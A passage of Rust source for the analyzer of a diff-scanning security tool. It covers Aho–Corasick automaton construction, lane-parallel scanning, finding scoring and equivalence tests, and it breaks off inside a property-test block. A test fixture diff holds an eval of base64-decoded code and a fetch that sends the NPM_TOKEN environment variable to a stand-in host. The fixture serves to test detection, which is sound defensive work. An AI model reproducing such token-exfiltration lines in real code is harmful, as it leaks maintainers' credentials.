//! The [`Analyzer`]: built once from the detector registry, the rule packs and the risk model;
//! then `analyze` is a single pass over each hunk's changed lines with one Aho–Corasick
//! automaton that holds every line pattern of every detector and rule.

use std::collections::HashMap;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicU64, Ordering};

use aho_corasick::automaton::Automaton as AcAutomaton;
use aho_corasick::dfa::DFA;
use aho_corasick::nfa::contiguous::NFA;
#[cfg(test)]
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
use aho_corasick::{Anchored, MatchKind, PatternID};
use regex::Regex;

use crate::change::{Change, Hunk, Line, LineKind};
use crate::classify::{FileClass, classify};
use crate::detector::{
    ChangeCtx, Detector, FileCtx, FileShared, Hit, HunkCtx, LinePattern, RoleHit,
};
use crate::finding::{Finding, Findings, excerpt};
use crate::report::{AnalyzerInfo, Report, Summary, Suppressed};
use crate::rules::{self, RuleError};
use crate::score::Model;
use crate::suppress::Suppressions;

/// The analyzer could not be built.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum BuildError {
    #[error(transparent)]
    Rule(#[from] RuleError),
    #[error("two detectors or rules share the id {0:?}; ids must be unique")]
    DuplicateId(String),
    #[error("detector {detector}: pattern {literal:?} {message}")]
    Pattern {
        detector: String,
        literal: String,
        message: String,
    },
    #[error("cannot compile the pattern automaton: {0}")]
    Automaton(String),
}

/// At most this many findings of one detector in one file are kept (highest score first): a
/// minified bundle must not drown the report.
pub const MAX_FINDINGS_PER_DETECTOR_AND_FILE: usize = 25;
/// At most this many findings in a report.
pub const MAX_FINDINGS: usize = 1000;

/// After this many bytes of hunk text have been scanned by one analyzer, it switches to a DFA.
///
/// Why two automata: the NFA builds in well under a millisecond, which keeps
/// `s-express analyze` on one pull request fast, but scans at a fraction of the DFA's speed
/// (it follows failure transitions; the DFA does one table lookup per byte). The DFA costs
/// several milliseconds and a few MB to build, which pays for itself after a few MB of text.
/// Both report the same matches in the same order, so which one ran never changes a report:
/// see [`Automaton`].
const DFA_AFTER_BYTES: u64 = 2 << 20;

/// One of the two automata over the same literals, and how to feed it.
///
/// Matching is ASCII-case-insensitive (case-sensitive patterns are confirmed byte for byte
/// after the hit). The DFA gets that from `ascii_case_insensitive`. The NFA is instead built
/// case-sensitively from the ASCII-lowercased literals and is fed each byte ASCII-lowercased:
/// the trie, failure links and match lists are then exactly those of the case-insensitive
/// automaton (which adds both cases of each letter to the same state), so the matches —
/// pattern, offsets, order — are identical, but the build does half the transition work and
/// needs no set of queued states. That halves the start-up cost of every `s-express analyze`.
///
/// Both are driven by [`overlapping_matches`], a plain loop over the automaton's transitions,
/// rather than through `AhoCorasick::find_overlapping_iter`: that iterator re-enters the
/// search through a trait object and keeps its position in memory for every byte, which
/// cost several times the transition itself on hunk text.
#[derive(Clone, Copy)]
enum Automaton<'a> {
    /// Fed lowercased bytes.
    Folded(&'a NFA),
    /// Fed the bytes as they are.
    CaseInsensitive(&'a DFA),
}

/// A match of the automaton within one line.
#[derive(Debug, Clone, Copy)]
struct LineMatch {
    pattern: PatternID,
    /// Byte range in the line.
    start: usize,
    end: usize,
}

/// Buffers reused across the lines of one analysis.
#[derive(Debug, Default)]
struct Scratch {
    /// A hunk's scanned lines joined, when some of its lines are not scanned.
    text: Vec<u8>,
    /// Where each scanned line starts in the haystack, and its index in the hunk.
    spans: Vec<(usize, usize)>,
    /// Each lane's matches over the haystack.
    lanes: [Vec<LineMatch>; LANES],
    /// The current line's matches, with offsets in the line.
    matches: Vec<LineMatch>,
    /// Patterns already handled on the current line.
    seen: Vec<u32>,
}

/// The hunk whose lines [`Analyzer::line_hits`] is handling.
#[derive(Clone, Copy)]
struct HunkAt<'h, 'f> {
    hunk: &'h Hunk,
    hunk_index: usize,
    fctx: &'h FileCtx<'f>,
}

struct Compiled {
    detector: u32,
    local: u32,
    regex: OnceLock<Option<Regex>>,
}

/// Builds an [`Analyzer`].
#[derive(Debug, Default)]
pub struct AnalyzerBuilder {
    builtin_rules: bool,
    builtin_detectors: bool,
    packs: Vec<(String, String)>,
    model: Option<Model>,
}

impl AnalyzerBuilder {
    /// Include the shipped rule packs (on by default with [`Analyzer::builder`]).
    pub fn builtin_rules(mut self, on: bool) -> Self {
        self.builtin_rules = on;
        self
    }

    /// Include the Rust detectors of the registry.
    pub fn builtin_detectors(mut self, on: bool) -> Self {
        self.builtin_detectors = on;
        self
    }

    /// Add a user rule pack (validated strictly at build).
    pub fn pack(mut self, name: impl Into<String>, text: impl Into<String>) -> Self {
        self.packs.push((name.into(), text.into()));
        self
    }

    /// Use these weights instead of the shipped ones.
    pub fn model(mut self, m: Model) -> Self {
        self.model = Some(m);
        self
    }

    pub fn build(self) -> Result<Analyzer, BuildError> {
        let mut detectors: Vec<Box<dyn Detector>> = Vec::new();
        if self.builtin_detectors {
            detectors.extend(crate::detectors::registry());
        }
        if self.builtin_rules {
            for r in rules::builtin_rules()? {
                detectors.push(Box::new(r));
            }
        }
        for (name, text) in &self.packs {
            for r in rules::load_pack(name, text, true)? {
                detectors.push(Box::new(r));
            }
        }
        Analyzer::from_detectors(detectors, self.model.unwrap_or_else(Model::builtin))
    }
}

/// A compiled analyzer. Build it once and reuse it for many changes; it is `Send + Sync`.
pub struct Analyzer {
    detectors: Vec<Box<dyn Detector>>,
    patterns: Vec<Compiled>,
    /// The NFA over the lowercased literals (see [`Automaton::Folded`]).
    automaton: Option<NFA>,
    /// The same automaton as a DFA, built on first use once `scanned` passes `dfa_after`
    /// (`None` inside if building it failed, e.g. over the DFA size limit: the NFA goes on).
    dfa: OnceLock<Option<DFA>>,
    scanned: AtomicU64,
    dfa_after: u64,
    /// Some pattern applies to context lines. When none does (the built-in set), only added
    /// and removed lines are scanned: matches inside a context line would be dropped anyway.
    scan_context: bool,
    model: Model,
}

impl std::fmt::Debug for Analyzer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Analyzer")
            .field("detectors", &self.detectors.len())
            .field("patterns", &self.patterns.len())
            .finish()
    }
}

/// Options for one analysis.
#[derive(Debug, Default, Clone)]
pub struct AnalyzeOptions {
    pub suppressions: Suppressions,
}

impl Analyzer {
    /// A builder with the shipped detectors and rule packs.
    pub fn builder() -> AnalyzerBuilder {
        AnalyzerBuilder {
            builtin_rules: true,
            builtin_detectors: true,
            ..AnalyzerBuilder::default()
        }
    }

    /// The shipped detectors, rule packs and model.
    pub fn builtin() -> Result<Self, BuildError> {
        Self::builder().build()
    }

    /// Build from an explicit detector list (tests use this to run one detector alone).
    pub fn from_detectors(
        detectors: Vec<Box<dyn Detector>>,
        model: Model,
    ) -> Result<Self, BuildError> {
        let mut ids = std::collections::HashSet::new();
        for d in &detectors {
            if !ids.insert(d.meta().id.to_string()) {
                return Err(BuildError::DuplicateId(d.meta().id.to_string()));
            }
        }
        let mut literals: Vec<&str> = Vec::new();
        let mut patterns = Vec::new();
        let mut scan_context = false;
        for (di, d) in detectors.iter().enumerate() {
            for (pi, p) in d.line_patterns().iter().enumerate() {
                if p.literal.is_empty() || p.literal.contains('\n') {
                    return Err(BuildError::Pattern {
                        detector: d.meta().id.to_string(),
                        literal: p.literal.to_string(),
                        message: "must be non-empty and on one line".into(),
                    });
                }
                literals.push(p.literal);
                scan_context |= p.lines.admits(LineKind::Context);
                patterns.push(Compiled {
                    detector: di as u32,
                    local: pi as u32,
                    regex: OnceLock::new(),
                });
            }
        }
        let automaton = if literals.is_empty() {
            None
        } else {
            Some(
                folded_nfa_automaton(&literals)
                    .map_err(|e| BuildError::Automaton(e.to_string()))?,
            )
        };
        Ok(Self {
            detectors,
            patterns,
            automaton,
            dfa: OnceLock::new(),
            scanned: AtomicU64::new(0),
            dfa_after: DFA_AFTER_BYTES,
            scan_context,
            model,
        })
    }

    /// The automaton to scan `len` more bytes with: the NFA until this analyzer has scanned
    /// `dfa_after` bytes in total, then the DFA (built once, by whichever thread gets there
    /// first).
    fn automaton_for(&self, len: usize) -> Option<Automaton<'_>> {
        let nfa = Automaton::Folded(self.automaton.as_ref()?);
        let before = self.scanned.fetch_add(len as u64, Ordering::Relaxed);
        if before.saturating_add(len as u64) < self.dfa_after {
            return Some(nfa);
        }
        let dfa = self.dfa.get_or_init(|| {
            let literals: Vec<&str> = self
                .patterns
                .iter()
                .map(|c| self.pattern(c).literal)
                .collect();
            case_insensitive_dfa_automaton(&literals).ok()
        });
        Some(dfa.as_ref().map_or(nfa, Automaton::CaseInsensitive))
    }

    /// Metadata of every detector and rule, in registry order.
    pub fn detectors(&self) -> impl Iterator<Item = &dyn Detector> {
        self.detectors.iter().map(|d| d.as_ref())
    }

    /// Number of line patterns in the automaton.
    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }

    pub fn model(&self) -> &Model {
        &self.model
    }

    fn pattern(&self, c: &Compiled) -> &LinePattern {
        // Indices were taken from these same slices at build time.
        &self.detectors[c.detector as usize].line_patterns()[c.local as usize]
    }

    /// Analyze a change with no suppressions.
    pub fn analyze(&self, change: &Change) -> Report {
        self.analyze_with(change, &AnalyzeOptions::default())
    }

    /// Analyze a change.
    pub fn analyze_with(&self, change: &Change, opts: &AnalyzeOptions) -> Report {
        let classes: Vec<FileClass> = change.files.iter().map(|f| classify(f.path())).collect();
        let mut out = Findings::new();
        let mut scratch = Scratch::default();
        for (fi, file) in change.files.iter().enumerate() {
            let class = &classes[fi];
            let mut roles: Vec<RoleHit> = Vec::new();
            let shared = FileShared::default();
            let scan_ctx = FileCtx {
                change,
                file,
                index: fi,
                class,
                roles: &[],
                shared: &shared,
            };
            for (hi, hunk) in file.hunks.iter().enumerate() {
                self.scan_hunk(hunk, hi, &scan_ctx, &mut roles, &mut scratch, &mut out);
            }
            let fctx = FileCtx {
                roles: &roles,
                ..scan_ctx
            };
            for (hi, hunk) in file.hunks.iter().enumerate() {
                let hctx = HunkCtx {
                    file: fctx,
                    hunk,
                    index: hi,
                };
                for d in &self.detectors {
                    d.check_hunk(&hctx, &mut out);
                }
            }
            for d in &self.detectors {
                d.check_file(&fctx, &mut out);
            }
        }
        let cctx = ChangeCtx {
            change,
            classes: &classes,
        };
        for d in &self.detectors {
            d.check_change(&cctx, &mut out);
        }
        self.finish(change, &classes, out.into_vec(), opts)
    }

    fn scan_hunk(
        &self,
        hunk: &Hunk,
        hunk_index: usize,
        fctx: &FileCtx<'_>,
        roles: &mut Vec<RoleHit>,
        scratch: &mut Scratch,
        out: &mut Findings,
    ) {
        let Scratch {
            text: joined,
            spans,
            lanes,
            matches,
            seen,
        } = scratch;
        let text = hunk.text.as_bytes();
        let scanned = |l: &Line| self.scan_context || l.kind != LineKind::Context;
        // One pass: the bytes to scan, and whether that is every line (then the hunk's own
        // text is the haystack, no copy).
        let (total, every_line) = hunk.lines.iter().fold((0, true), |(total, every), l| {
            if scanned(l) {
                (total + l.end.saturating_sub(l.start) as usize, every)
            } else {
                (total, false)
            }
        });
        if total == 0 {
            return;
        }
        let Some(automaton) = self.automaton_for(total) else {
            return;
        };
        // The scanned lines, each ended by its newline, are gathered into one haystack: the
        // hunk's own text when every line is scanned, else a copy made of runs of adjacent
        // lines. No literal holds a newline, so no match crosses a line end and the automaton
        // is back at its start state after each one: walking the lines together reports, line
        // by line, exactly what walking each alone reports, and lets the walk be split into
        // lanes (see `overlapping_matches_lanes`).
        spans.clear();
        let haystack: &[u8] = if every_line {
            spans.extend(
                hunk.lines
                    .iter()
                    .enumerate()
                    .map(|(i, l)| (l.start as usize, i)),
            );
            text
        } else {
            joined.clear();
            let mut run: Option<(usize, usize)> = None;
            for (i, line) in hunk.lines.iter().enumerate().filter(|(_, l)| scanned(l)) {
                let (start, end) = (line.start as usize, line.end as usize + 1);
                run = match run {
                    Some((from, to)) if to == start => Some((from, end)),
                    Some((from, to)) => {
                        joined.extend_from_slice(text.get(from..to).unwrap_or_default());
                        Some((start, end))
                    }
                    None => Some((start, end)),
                };
                let offset = run.map_or(0, |(from, _)| joined.len() + (start - from));
                spans.push((offset, i));
            }
            if let Some((from, to)) = run {
                joined.extend_from_slice(text.get(from..to).unwrap_or_default());
            }
            joined
        };
        for lane in lanes.iter_mut() {
            lane.clear();
        }
        match automaton {
            Automaton::Folded(nfa) => overlapping_matches_lanes::<_, true>(nfa, haystack, lanes),
            Automaton::CaseInsensitive(dfa) => {
                overlapping_matches_lanes::<_, false>(dfa, haystack, lanes)
            }
        }
        // The lanes' matches, in order, are sorted by end offset; each belongs to the last
        // line starting at or before it. Lines are handled in order, as they were scanned.
        let at = HunkAt {
            hunk,
            hunk_index,
            fctx,
        };
        let line_of = |span: Option<usize>| {
            let (_, index) = *spans.get(span?)?;
            hunk.lines.get(index)
        };
        let mut span = 0;
        let mut current: Option<usize> = None;
        matches.clear();
        for m in lanes.iter().flatten() {
            while spans
                .get(span + 1)
                .is_some_and(|&(offset, _)| offset <= m.start)
            {
                span += 1;
            }
            if current != Some(span) {
                if let Some(line) = line_of(current) {
                    self.line_hits(&at, line, matches, seen, roles, out);
                }
                matches.clear();
                current = Some(span);
            }
            let base = spans.get(span).map_or(0, |&(offset, _)| offset);
            matches.push(LineMatch {
                pattern: m.pattern,
                start: m.start.saturating_sub(base),
                end: m.end.saturating_sub(base),
            });
        }
        if let Some(line) = line_of(current) {
            self.line_hits(&at, line, matches, seen, roles, out);
        }
    }

    /// Turn one line's automaton matches into hits for their detectors.
    fn line_hits(
        &self,
        at: &HunkAt<'_, '_>,
        line: &Line,
        matches: &[LineMatch],
        seen: &mut Vec<u32>,
        roles: &mut Vec<RoleHit>,
        out: &mut Findings,
    ) {
        let HunkAt {
            hunk,
            hunk_index,
            fctx,
        } = *at;
        let text = hunk.text.as_bytes();
        // A (pattern, line) pair is reported once; a line has few matches, so a list of
        // the line's patterns seen so far beats a hash set.
        seen.clear();
        for m in matches {
            let (m_start, m_end) = (line.start as usize + m.start, line.start as usize + m.end);
            let pid = m.pattern.as_usize();
            let Some(cp) = self.patterns.get(pid) else {
                continue;
            };
            let pat = self.pattern(cp);
            if !pat.lines.admits(line.kind) {
                continue;
            }
            if !pat.files.is_empty() && !pat.files.iter().any(|s| s.admits(fctx.class)) {
                continue;
            }
            if !pat.ignore_case && text.get(m_start..m_end) != Some(pat.literal.as_bytes()) {
                continue;
            }
            if seen.contains(&(pid as u32)) {
                continue;
            }
            seen.push(pid as u32);
            let line_text = hunk.line_text(line);
            let range = match &pat.regex {
                None => m.start..m.end,
                Some(src) => {
                    let re = cp.regex.get_or_init(|| Regex::new(src).ok());
                    match re.as_ref().and_then(|re| re.find(line_text)) {
                        Some(rm) => rm.range(),
                        None => continue,
                    }
                }
            };
            let line_no = match line.kind {
                LineKind::Removed => line.old_line.unwrap_or(0),
                _ => line.new_line.unwrap_or(0),
            };
            if let Some((role, kind)) = pat.role {
                roles.push(RoleHit {
                    role,
                    kind,
                    hunk: hunk_index,
                    line: line_no,
                    text: excerpt(line_text.get(range.clone()).unwrap_or(""), 120),
                });
            }
            let hit = Hit {
                pattern: cp.local as usize,
                hunk,
                hunk_index,
                line,
                line_no,
                text: line_text,
                range,
            };
            self.detectors[cp.detector as usize].on_hit(&hit, fctx, out);
        }
    }

    fn finish(
        &self,
        change: &Change,
        classes: &[FileClass],
        raw: Vec<Finding>,
        opts: &AnalyzeOptions,
    ) -> Report {
        let class_of: HashMap<&str, &FileClass> = change
            .files
            .iter()
            .zip(classes)
            .map(|(f, c)| (f.path(), c))
            .collect();
        let mut kept = Vec::with_capacity(raw.len());
        let mut suppressed = Vec::new();
        let mut seen = std::collections::HashSet::new();
        for mut f in raw {
            if !seen.insert((f.id.clone(), f.path.clone(), f.line, f.fingerprint.clone())) {
                continue;
            }
            if let Some(s) = opts.suppressions.matching(&f) {
                suppressed.push(Suppressed {
                    id: f.id,
                    path: f.path,
                    line: f.line,
                    reason: s.reason.clone(),
                });
                continue;
            }
            f.score = (self
                .model
                .finding_score(&f, class_of.get(f.path.as_str()).copied())
                * 1e6)
                .round()
                / 1e6;
            kept.push(f);
        }
        kept.sort_by(|a, b| {
            b.score
                .total_cmp(&a.score)
                .then_with(|| b.severity.cmp(&a.severity))
                .then_with(|| a.path.cmp(&b.path))
                .then_with(|| a.line.cmp(&b.line))
                .then_with(|| a.id.cmp(&b.id))
                .then_with(|| a.evidence.cmp(&b.evidence))
        });
        let mut per: HashMap<(String, String), usize> = HashMap::new();
        kept.retain(|f| {
            let n = per.entry((f.id.clone(), f.path.clone())).or_insert(0);
            *n += 1;
            *n <= MAX_FINDINGS_PER_DETECTOR_AND_FILE
        });
        kept.truncate(MAX_FINDINGS);
        let risk = self.model.risk(&kept);
        let summary = Summary {
            files: change.files.len(),
            added_lines: change.files.iter().map(|f| f.added_lines().count()).sum(),
            removed_lines: change.files.iter().map(|f| f.removed_lines().count()).sum(),
            binary_files: change.files.iter().filter(|f| f.binary.is_some()).count(),
            commits: change.commits.len(),
        };
        Report {
            schema_version: crate::report::SCHEMA_VERSION,
            analyzer: AnalyzerInfo {
                name: "s-express".into(),
                version: env!("CARGO_PKG_VERSION").into(),
                model_version: self.model.version,
                detectors: self.detectors.len(),
            },
            risk,
            findings: kept,
            summary,
            suppressed,
            notes: change.parse_notes.clone(),
        }
    }
}

/// Every match of `aut` in `haystack`, appended to `out` exactly as
/// `AhoCorasick::find_overlapping_iter` would report them with the same automaton: ordered by
/// end offset, and at one offset in the order of the state's match list. With `FOLD` every
/// byte is ASCII-lowercased before the transition (for [`Automaton::Folded`]).
///
/// This is that iterator's loop without a prefilter. A prefilter only lets a search skip
/// ahead from the start state to where a match may begin, so it never changes the matches.
///
/// The analysis walks lanes ([`overlapping_matches_lanes`]); this one-walk loop is the
/// reference they are checked against.
#[cfg(test)]
fn overlapping_matches<A: AcAutomaton, const FOLD: bool>(
    aut: &A,
    haystack: &[u8],
    out: &mut Vec<LineMatch>,
) {
    // Unanchored starts are always supported (both builders' default start kind).
    let Ok(sid) = aut.start_state(Anchored::No) else {
        return;
    };
    walk::<A, FOLD>(aut, sid, haystack, 0, Lane { from: 0, after: 0 }, out);
}

/// How many walks [`overlapping_matches_lanes`] steps side by side. Measured on text of the
/// repository with the built-in rules: two lanes scan about 1.7 times as fast as one, four
/// about 2.2 times.
const LANES: usize = 4;

/// Shortest share of a haystack worth a lane of its own: each lane but the first re-reads
/// the longest literal's length before its share, so tiny shares would mostly re-read.
const MIN_LANE_BYTES: usize = 64;

/// [`overlapping_matches`] over `haystack`, walked as [`LANES`] lanes at once. The haystack
/// is cut into equal shares; lane `k` appends to `outs[k]` the matches that end in its share,
/// in the order the one-walk loop reports them, with offsets into `haystack`. `outs` in
/// order are therefore exactly what `overlapping_matches` reports over the whole haystack.
///
/// Why: the per-byte step is one load from a transition table of a few MB whose address
/// depends on the previous load, so one walk runs at the table's memory latency rather than
/// at the core's speed. Independent walks stepped side by side let the core overlap their
/// loads.
///
/// Why the cuts change no match: a lane starts from the start state the longest literal's
/// length minus one bytes before its share. From the start state at offset `s` an
/// Aho-Corasick walk reports every match that starts at or after `s`, and a match ending in
/// the share starts no earlier than that; matches ending before the share are left to the
/// lane before.
#[inline(never)]
fn overlapping_matches_lanes<A: AcAutomaton, const FOLD: bool>(
    aut: &A,
    haystack: &[u8],
    outs: &mut [Vec<LineMatch>; LANES],
) {
    let Ok(start) = aut.start_state(Anchored::No) else {
        return;
    };
    let len = haystack.len();
    let split = len >= LANES * MIN_LANE_BYTES;
    // Share k is (shares[k], shares[k + 1]] in match-end offsets.
    let shares: [usize; LANES + 1] = std::array::from_fn(|k| match (split, k) {
        (_, 0) => 0,
        (true, k) => len * k / LANES,
        (false, _) => len,
    });
    let overlap = aut.max_pattern_len().saturating_sub(1);
    let from: [usize; LANES] = std::array::from_fn(|k| shares[k].saturating_sub(overlap));
    let pieces: [&[u8]; LANES] =
        std::array::from_fn(|k| haystack.get(from[k]..shares[k + 1]).unwrap_or_default());
    let common = pieces.iter().map(|p| p.len()).min().unwrap_or(0);
    let mut sids = [start; LANES];
    for i in 0..common {
        for k in 0..LANES {
            let byte = pieces[k].get(i).copied().unwrap_or(b'\n');
            sids[k] = aut.next_state(Anchored::No, sids[k], fold::<FOLD>(byte));
            // A walk that reached the dead state stays there and reports nothing more, so
            // its answer can be ignored here; the tail below stops at once.
            if aut.is_special(sids[k]) {
                special_state(aut, sids[k], from[k] + i + 1, shares[k], &mut outs[k]);
            }
        }
    }
    for k in 0..LANES {
        let lane = Lane {
            from: from[k],
            after: shares[k],
        };
        walk::<A, FOLD>(aut, sids[k], pieces[k], common, lane, &mut outs[k]);
    }
}

/// Where a walk's haystack sits in the whole, and which of its matches it reports.
#[derive(Clone, Copy)]
struct Lane {
    /// Offset of the walk's haystack in the whole.
    from: usize,
    /// Only matches ending after this offset of the whole are reported.
    after: usize,
}

/// The byte as the automaton is fed it: ASCII-lowercased for the folded NFA.
#[inline(always)]
fn fold<const FOLD: bool>(byte: u8) -> u8 {
    if FOLD {
        byte.to_ascii_lowercase()
    } else {
        byte
    }
}

/// The walk of [`overlapping_matches`] from state `sid` at offset `from` of `haystack`, the
/// piece of the whole that `lane` says.
#[inline(always)]
fn walk<A: AcAutomaton, const FOLD: bool>(
    aut: &A,
    mut sid: aho_corasick::automaton::StateID,
    haystack: &[u8],
    from: usize,
    lane: Lane,
    out: &mut Vec<LineMatch>,
) {
    if aut.is_dead(sid) {
        return;
    }
    let rest = haystack.get(from..).unwrap_or_default();
    for (i, &byte) in rest.iter().enumerate() {
        sid = aut.next_state(Anchored::No, sid, fold::<FOLD>(byte));
        if aut.is_special(sid)
            && !special_state(aut, sid, lane.from + from + i + 1, lane.after, out)
        {
            return;
        }
    }
}

/// The part of [`overlapping_matches`] for a special state reached at offset `end`: push its
/// matches unless `end` is at or before `after` (they belong to the lane before). False at
/// the dead state, where the search ends. Out of line so the per-byte loop keeps its few
/// values in registers.
#[inline(never)]
fn special_state<A: AcAutomaton>(
    aut: &A,
    sid: aho_corasick::automaton::StateID,
    end: usize,
    after: usize,
    out: &mut Vec<LineMatch>,
) -> bool {
    if aut.is_dead(sid) {
        return false;
    }
    if end > after && aut.is_match(sid) {
        for i in 0..aut.match_len(sid) {
            let pattern = aut.match_pattern(sid, i);
            out.push(LineMatch {
                pattern,
                start: end - aut.pattern_len(pattern),
                end,
            });
        }
    }
    true
}

/// The NFA: case-sensitive over the ASCII-lowercased literals, fed lowercased text (see
/// [`Automaton`]). Only the start state gets a dense transition table: deeper dense states
/// cost more to build and fault in than they save on a pull request's few kilobytes.
fn folded_nfa_automaton(literals: &[&str]) -> Result<NFA, aho_corasick::BuildError> {
    NFA::builder()
        .match_kind(MatchKind::Standard)
        .dense_depth(1)
        .build(literals.iter().map(|l| l.to_ascii_lowercase()))
}

/// The DFA: ASCII-case-insensitive over the literals as declared, fed the text as it is.
fn case_insensitive_dfa_automaton(literals: &[&str]) -> Result<DFA, aho_corasick::BuildError> {
    DFA::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(literals)
}

/// [`folded_nfa_automaton`] behind the `AhoCorasick` API, built the same way: the reference
/// the folded NFA and [`overlapping_matches`] are checked against.
#[cfg(test)]
fn folded_nfa(literals: &[&str]) -> Result<AhoCorasick, aho_corasick::BuildError> {
    AhoCorasickBuilder::new()
        .match_kind(MatchKind::Standard)
        .kind(Some(AhoCorasickKind::ContiguousNFA))
        .dense_depth(1)
        .build(literals.iter().map(|l| l.to_ascii_lowercase()))
}

/// [`case_insensitive_dfa_automaton`] behind the `AhoCorasick` API, built the same way.
#[cfg(test)]
fn case_insensitive_dfa(literals: &[&str]) -> Result<AhoCorasick, aho_corasick::BuildError> {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .kind(Some(AhoCorasickKind::DFA))
        .build(literals)
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIFF: &str = "diff --git a/lib/x.js b/lib/x.js
--- a/lib/x.js
+++ b/lib/x.js
@@ -1,3 +1,6 @@
 const a = require('a');
+eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
+const t = Date.now(); while (Date.now() - t < 10) {}
+fetch('https://collect.invalid/?k=' + process.env.NPM_TOKEN);
 module.exports = a;
-// \u{200d}old
 // end
";

    #[test]
    fn the_dfa_and_the_nfa_produce_the_same_report() {
        let change = crate::diff::parse(DIFF.as_bytes(), &crate::diff::Limits::default()).unwrap();
        let nfa = Analyzer::builtin().unwrap();
        let mut dfa = Analyzer::builtin().unwrap();
        dfa.dfa_after = 0;
        let (by_nfa, by_dfa) = (nfa.analyze(&change), dfa.analyze(&change));
        assert!(
            nfa.dfa.get().is_none(),
            "a small change must not build the DFA"
        );
        assert!(
            matches!(dfa.dfa.get(), Some(Some(_))),
            "the DFA must have been built and used"
        );
        assert!(
            !by_nfa.findings.is_empty(),
            "the sample must exercise the scan"
        );
        assert_eq!(by_nfa, by_dfa);
    }

    /// Every match, as the engine consumes them: (pattern, start, end) in iteration order.
    fn matches(ac: &AhoCorasick, haystack: &[u8]) -> Vec<(usize, usize, usize)> {
        ac.find_overlapping_iter(haystack)
            .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
            .collect()
    }

    fn builtin_literals() -> &'static [&'static str] {
        static L: OnceLock<Vec<&'static str>> = OnceLock::new();
        L.get_or_init(|| {
            let a = Analyzer::builtin().unwrap();
            a.patterns.iter().map(|c| a.pattern(c).literal).collect()
        })
    }

    /// The automata as they were before the NFA was folded: the reference the folded NFA
    /// must agree with, match for match and in the same order.
    fn reference_nfa() -> &'static AhoCorasick {
        static R: OnceLock<AhoCorasick> = OnceLock::new();
        R.get_or_init(|| {
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::Standard)
                .kind(Some(AhoCorasickKind::ContiguousNFA))
                .build(builtin_literals())
                .unwrap()
        })
    }

    fn folded() -> &'static AhoCorasick {
        static F: OnceLock<AhoCorasick> = OnceLock::new();
        F.get_or_init(|| folded_nfa(builtin_literals()).unwrap())
    }

    fn dfa() -> &'static AhoCorasick {
        static D: OnceLock<AhoCorasick> = OnceLock::new();
        D.get_or_init(|| case_insensitive_dfa(builtin_literals()).unwrap())
    }

    /// Every built-in literal, alternately upper-cased, lower-cased and as declared (so every
    /// letter is tried both ways), `per_line` of them on each line.
    fn recased_literals(per_line: usize) -> String {
        let mut text = String::new();
        for (i, l) in builtin_literals().iter().enumerate() {
            match i % 3 {
                0 => text.push_str(&l.to_ascii_uppercase()),
                1 => text.push_str(&l.to_ascii_lowercase()),
                _ => text.push_str(l),
            }
            if i % per_line == per_line - 1 {
                text.push('\n');
            }
        }
        text
    }

    #[test]
    fn the_folded_nfa_finds_every_literal_in_any_case() {
        let lits = builtin_literals();
        let text = recased_literals(1);
        let want = matches(reference_nfa(), text.as_bytes());
        let got = matches(folded(), text.to_ascii_lowercase().as_bytes());
        assert!(want.len() >= lits.len(), "{} matches", want.len());
        assert_eq!(got, want);
    }

    /// Every match, as the engine's own loop reports them over `haystack`.
    fn loop_matches<A: AcAutomaton, const FOLD: bool>(
        aut: &A,
        haystack: &[u8],
    ) -> Vec<(usize, usize, usize)> {
        let mut out = Vec::new();
        overlapping_matches::<_, FOLD>(aut, haystack, &mut out);
        triples(&out)
    }

    /// Matches as `(pattern, start, end)`, comparable with the reference iterator's.
    fn triples<'m>(matches: impl IntoIterator<Item = &'m LineMatch>) -> Vec<(usize, usize, usize)> {
        matches
            .into_iter()
            .map(|m| (m.pattern.as_usize(), m.start, m.end))
            .collect()
    }

    /// Every match in `haystack`, as the engine's lanes report them: the lanes' outputs one
    /// after the other.
    fn lane_matches<A: AcAutomaton, const FOLD: bool>(
        aut: &A,
        haystack: &[u8],
    ) -> Vec<(usize, usize, usize)> {
        let mut outs: [Vec<LineMatch>; LANES] = Default::default();
        overlapping_matches_lanes::<_, FOLD>(aut, haystack, &mut outs);
        triples(outs.iter().flatten())
    }

    fn engine_nfa() -> &'static NFA {
        static N: OnceLock<NFA> = OnceLock::new();
        N.get_or_init(|| folded_nfa_automaton(builtin_literals()).unwrap())
    }

    fn engine_dfa() -> &'static DFA {
        static D: OnceLock<DFA> = OnceLock::new();
        D.get_or_init(|| case_insensitive_dfa_automaton(builtin_literals()).unwrap())
    }

    #[test]
    fn the_engine_loop_reports_exactly_what_find_overlapping_iter_reports() {
        let lits = builtin_literals();
        // Several literals per line, so matches overlap and share end offsets.
        let text = recased_literals(4);
        let mut total = 0;
        for line in text.lines() {
            let want = matches(reference_nfa(), line.as_bytes());
            total += want.len();
            assert_eq!(loop_matches::<_, true>(engine_nfa(), line.as_bytes()), want);
            assert_eq!(
                loop_matches::<_, false>(engine_dfa(), line.as_bytes()),
                want
            );
        }
        assert!(total >= lits.len(), "{total} matches");
    }

    /// What the proptests below draw: pieces of literals and stray bytes.
    type Pieces = Vec<(usize, usize, usize, u64, Vec<u8>)>;

    /// Text made of pieces of the real literals (whole or truncated, with letters re-cased by
    /// `case_bits`) each followed by a few arbitrary bytes.
    fn literal_soup(pieces: Pieces) -> Vec<u8> {
        let lits = builtin_literals();
        let mut text: Vec<u8> = Vec::new();
        for (which, from, to, case_bits, junk) in pieces {
            let lit = lits[which % lits.len()].as_bytes();
            let (a, b) = (from.min(lit.len()), to.min(lit.len()));
            let piece = if which % 4 == 0 {
                &lit[a.min(b)..a.max(b)]
            } else {
                lit
            };
            for (i, &c) in piece.iter().enumerate() {
                let flip = case_bits >> (i % 64) & 1 == 1;
                text.push(if flip && c.is_ascii_alphabetic() {
                    c ^ 0x20
                } else {
                    c
                });
            }
            text.extend(junk);
        }
        text
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 512, ..Default::default() })]

